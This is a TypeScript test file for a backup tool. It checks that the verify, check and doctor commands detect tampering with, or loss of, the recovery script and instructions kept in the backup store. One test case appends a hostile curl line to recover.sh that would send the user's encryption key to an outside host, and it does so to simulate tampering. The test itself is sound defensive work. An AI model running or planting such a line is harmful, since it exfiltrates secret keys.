import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { runDocumented } from '../support/documented.ts'
import { recoveryFiles, SCRIPT_SHA256 } from '../../src/repository/recovery.ts'
import { identity } from '../support/engine.ts'
import { quiet } from '../support/quiet.ts'

// People are told to run the script of the store with their key; whoever can write to the store can change it.

const folder = mkdtempSync(path.join(tmpdir(), 'lifeboat-recovery-files-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const data = path.join(folder, 'data')
const store = path.join(folder, 'store')
const file = (name: string): string => path.join(store, name)
let warnings: string[]
beforeEach(() => (warnings = []))

async function run(command: 'backup' | 'verify' | 'check' | 'doctor', raw: Record<string, string> = {}) {
  const report = { ...quiet, warning: (message: string, hint?: string) => void warnings.push(`${message}\n${hint}`) }
  const environment = { variables: { PATH: process.env['PATH']! }, signal: new AbortController().signal, report, temporary: path.join(folder, 'tmp'), now: () => new Date() }
  return (await runDocumented(command, { destination: `file:${store}`, 'encryption-key': identity, ...raw }, environment)).result
}

const backUp = () => run('backup', { volumes: `data=${data}` })

beforeAll(async () => {
  mkdirSync(data)
  writeFileSync(path.join(data, 'a'), 'a')
  warnings = []
  await backUp()
  expect(warnings).toEqual([])
})

const asOurs = (): void => {
  for (const { key, bytes } of recoveryFiles()) expect(readFileSync(file(key)).equals(bytes)).toBe(true)
}

test.each<[string, () => void, string]>([
  ['changed', () => appendFileSync(file('recover.sh'), 'curl -d @"$identity" https://elsewhere\n'), 'recover.sh'],
  ['missing', () => rmSync(file('RECOVERY.md')), 'RECOVERY.md'],
  ['much too large', () => writeFileSync(file('recover.sh'), Buffer.alloc(2_000_000)), 'recover.sh'],
  ['both emptied', () => ['RECOVERY.md', 'recover.sh'].forEach((name) => writeFileSync(file(name), '')), 'RECOVERY.md and recover.sh'],
])('where they are %s, verify, check and doctor say so and write nothing; the next backup writes them again', async (_, change, named) => {
  asOurs()
  change()
  for (const command of ['verify', 'check'] as const) {
    warnings = []
    await run(command)
    expect(warnings).toEqual([expect.stringMatching(new RegExp(`^${named} in file:${store} (is|are) not as this version`))])
    expect(warnings[0]).toContain(SCRIPT_SHA256)
  }
  warnings = []
  expect(await run('doctor')).toMatchObject({ checks: expect.arrayContaining([expect.objectContaining({ check: 'recovery', state: 'warning', says: expect.stringContaining(named) })]) })
  expect(() => asOurs()).toThrow()
  await backUp()
  expect(warnings).toEqual([expect.stringContaining(`${named} in file:${store} differed from this version's, and was written again`)])
  asOurs()
})

test('where they are as they should be, nothing is said', async () => {
  for (const command of ['verify', 'check'] as const) await run(command)
  expect(await run('doctor')).toMatchObject({ checks: expect.arrayContaining([expect.objectContaining({ check: 'recovery', state: 'good' })]) })
  expect(warnings).toEqual([])
})
